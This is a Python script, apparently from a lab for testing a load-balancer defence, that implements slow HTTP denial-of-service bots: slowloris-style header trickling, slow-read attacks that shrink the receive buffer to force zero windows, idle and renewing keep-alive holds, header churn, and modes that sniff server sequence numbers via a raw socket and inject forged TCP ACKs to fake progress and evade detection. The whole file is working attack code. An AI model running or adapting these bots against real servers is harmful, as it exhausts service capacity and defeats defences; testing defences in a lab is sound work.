#!/usr/bin/env python3
"""Real-address bots: real TCP connections from this namespace's kernel, bound to --addrs (they
answer the director's challenge like any Linux host, so they are verified sources), that hold the
real servers' workers the ways the scoring does not want:

  slow-header  a partial request head, then one more header line every --interval-s (jittered
               +-30%), never the blank line that ends it (slowloris)
  slow-forged  as slow-header, and after every line a raw pure ACK (from this address, the
               connection's own 4-tuple and next sequence number) whose acknowledgement number
               advances by 1000 each time past what the server really sent: forged server progress.
               The server drops those ACKs (they acknowledge data it never sent, RFC 9293); the
               director cannot tell. The server's real sequence and acknowledgement numbers come
               from a raw socket reading this namespace's incoming segments (its own traffic).
  idle-hold    a complete request, its response read, then the keep-alive connection held idle
               with one byte (CRLF, which servers skip between requests) every --interval-s
  renew        a complete request, its response read, then every --interval-s one byte of a next
               request head it never finishes (the server waits for the rest) and, as slow-forged
               does, a raw ACK a further 1000 bytes past what the server really sent: to the
               director it is a client being served that is never idle and never waits long for
               an answer (docs/DEFENSE.md §3); only the server's side (sluice-agent) shows it sent
               nothing
  header-churn a partial request head, then silence for --interval-s (jittered +-30%), then a FIN,
               and at once the next connection: every head dropped before the director's idle
               step or stall grace can sink it, the worker held by a stream of fresh connections
  slow-read    a complete request for a large response (/big), read --read-bytes at a time every
               --interval-s through a receive buffer made as small as the kernel allows
               (SO_RCVBUF): the buffer stays full, so the kernel advertises a zero window, and the
               server's worker waits in its write for as long as the body lasts (slowhttptest -X)
  download     the same request, read as fast as the kernel delivers it with an ordinary buffer:
               slow only where the link is (lab-eval shapes this namespace's downlink), so the
               window stays open and every segment is acknowledged as it arrives

Each connection uses TCP_USER_TIMEOUT (--user-timeout-ms): data unacknowledged that long ends it,
so a connection the director shed (its RST went to the real server; this side never hears of it)
is noticed on its next line and opened again. A connection that ends is reopened after 200 ms,
so the pressure stays constant. --per connections per address, opened in a ramp.

  python3 bots.py --host VIP --addrs a,b,c --per 4 --mode slow-header --interval-s 3

Prints once a second {"open": N, "connecting": N, "opened": N, "closed": N, "forged": N}.
"""
import argparse
import asyncio
import json
import random
import signal
import socket
import struct
import sys

from rawtcp import raw_sender, segment

TCP_USER_TIMEOUT = getattr(socket, "TCP_USER_TIMEOUT", 18)
RENEW_HEAD = b"GET /"


class Sniffer:
    """The server's latest sequence and acknowledgement numbers per (local address, port)."""

    def __init__(self, vip: str, port: int):
        self.vip = socket.inet_aton(vip)
        self.port = port
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.sock.setblocking(False)
        self.seen = {}

    def readable(self) -> None:
        while True:
            try:
                pkt = self.sock.recv(65535)
            except BlockingIOError:
                return
            except OSError:
                return
            ihl = (pkt[0] & 15) * 4
            if pkt[12:16] != self.vip or len(pkt) < ihl + 20:
                continue
            sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", pkt[ihl : ihl + 14])
            if sport != self.port or flags & 0x04 or not flags & 0x10:
                continue
            # A SYN-ACK's ack is the director's cookie or the server's ISN+1: only segments of an
            # established connection count.
            if flags & 0x02:
                continue
            plen = len(pkt) - ihl - (off >> 4) * 4
            key = (pkt[16:20], dport)
            self.seen[key] = ((seq + plen) & 0xFFFFFFFF, ack)


async def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--addrs", required=True)
    ap.add_argument("--per", type=int, default=4)
    ap.add_argument(
        "--mode",
        choices=("slow-header", "slow-forged", "idle-hold", "renew", "header-churn", "slow-read", "download"),
        required=True,
    )
    ap.add_argument("--read-bytes", type=int, default=64)
    ap.add_argument("--interval-s", type=float, default=3.0)
    ap.add_argument("--user-timeout-ms", type=int, default=4000)
    ap.add_argument("--ramp-per-s", type=float, default=400.0)
    args = ap.parse_args()
    addrs = [a for a in args.addrs.split(",") if a]
    loop = asyncio.get_running_loop()
    stats = {"open": 0, "connecting": 0, "opened": 0, "closed": 0, "forged": 0}
    stopping = asyncio.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stopping.set)

    sniffer = None
    raw = None
    if args.mode in ("slow-forged", "renew"):
        sniffer = Sniffer(args.host, args.port)
        loop.add_reader(sniffer.sock.fileno(), sniffer.readable)
        raw = raw_sender()
    vip = socket.inet_aton(args.host)

    download = args.mode == "download"

    def jitter() -> float:
        return args.interval_s * random.uniform(0.7, 1.3)

    async def slow_read(addr: str, seq_no: int) -> None:
        # A plain non-blocking socket: a StreamReader would drain the kernel's buffer on its own.
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        connected = False
        try:
            if not download:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the kernel's minimum
            sock.setsockopt(socket.IPPROTO_TCP, TCP_USER_TIMEOUT, args.user_timeout_ms)
            sock.bind((addr, 0))
            sock.setblocking(False)
            await asyncio.wait_for(loop.sock_connect(sock, (args.host, args.port)), 10.0)
            connected = True
            stats["connecting"] -= 1
            stats["open"] += 1
            stats["opened"] += 1
            try:
                await loop.sock_sendall(sock, b"GET /big?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % seq_no)
                while not stopping.is_set():
                    data = await asyncio.wait_for(loop.sock_recv(sock, 65536 if download else args.read_bytes), 10.0)
                    if data == b"":
                        return
                    if not download:
                        await asyncio.sleep(jitter())
            finally:
                stats["open"] -= 1
                stats["closed"] += 1
        except asyncio.TimeoutError:
            pass
        finally:
            if not connected:
                stats["connecting"] -= 1
            sock.close()

    async def one(addr: str, n: int) -> None:
        seq_no = 0
        while not stopping.is_set():
            stats["connecting"] += 1
            if args.mode in ("slow-read", "download"):
                seq_no += 1
                try:
                    await slow_read(addr, seq_no)
                except OSError:
                    pass
                if not stopping.is_set():
                    await asyncio.sleep(0.2)
                continue
            established = False
            writer = None
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(args.host, args.port, local_addr=(addr, 0)), 10.0
                )
                stats["connecting"] -= 1
                established = True
                stats["open"] += 1
                stats["opened"] += 1
                sock = writer.get_extra_info("socket")
                sock.setsockopt(socket.IPPROTO_TCP, TCP_USER_TIMEOUT, args.user_timeout_ms)
                lport = sock.getsockname()[1]
                key = (socket.inet_aton(addr), lport)
                seq_no += 1
                if args.mode in ("idle-hold", "renew"):
                    writer.write(b"GET /?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % seq_no)
                    await writer.drain()
                    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10.0)
                    m = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                    if m:
                        await asyncio.wait_for(reader.readexactly(int(m[0].split(b":")[1])), 10.0)
                    trickle = b"\r\n" if args.mode == "idle-hold" else None
                else:
                    writer.write(b"GET /?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n" % seq_no)
                    await writer.drain()
                    trickle = None
                if args.mode == "header-churn":
                    # Silence (noticing the server closing or an RST meanwhile), then a FIN.
                    try:
                        await asyncio.wait_for(reader.read(4096), jitter())
                    except asyncio.TimeoutError:
                        pass
                    writer.close()
                    writer = None
                    continue
                k = 0
                forged = 0
                while not stopping.is_set():
                    # Wait out the interval, noticing the server closing (or an RST) meanwhile.
                    # A renewing bot renews at once after its response (which may have waited long
                    # for a worker), then every interval.
                    wait = 0.05 if args.mode == "renew" and k == 0 else jitter()
                    try:
                        data = await asyncio.wait_for(reader.read(4096), wait)
                        if data == b"":
                            break
                        continue
                    except asyncio.TimeoutError:
                        pass
                    k += 1
                    if args.mode == "renew":
                        # A request line a byte at a time, whose path never ends: a parser that
                        # checks the method as it reads (Node's llhttp) waits for the rest.
                        writer.write(RENEW_HEAD[k - 1 : k] or b"a")
                    else:
                        writer.write(trickle if trickle is not None else b"X-a%d: %d\r\n" % (k, k))
                    await writer.drain()
                    if raw is not None:
                        # The server's ACK of the line tells both numbers; then the forged ACK.
                        await asyncio.sleep(0.1)
                        got = sniffer.seen.get(key)
                        if got is not None:
                            srv_next, our_next = got
                            forged += 1000
                            try:
                                raw.sendto(segment(key[0], vip, lport, args.port, our_next, (srv_next + forged) & 0xFFFFFFFF, 0x10, 502), (args.host, 0))
                                stats["forged"] += 1
                            except OSError:
                                pass
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                pass
            finally:
                if established:
                    stats["open"] -= 1
                    stats["closed"] += 1
                else:
                    stats["connecting"] -= 1
                if writer is not None:
                    writer.transport.abort()
            if not stopping.is_set() and args.mode != "header-churn":
                await asyncio.sleep(0.2)

    async def report() -> None:
        while not stopping.is_set():
            await asyncio.sleep(1)
            sys.stdout.write(json.dumps(stats) + "\n")
            sys.stdout.flush()

    tasks = [asyncio.ensure_future(report())]
    total = args.per * len(addrs)
    for i in range(total):
        if stopping.is_set():
            break
        tasks.append(asyncio.ensure_future(one(addrs[i % len(addrs)], i)))
        await asyncio.sleep(1.0 / args.ramp_per_s)
    await stopping.wait()
    for t in tasks:
        t.cancel()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
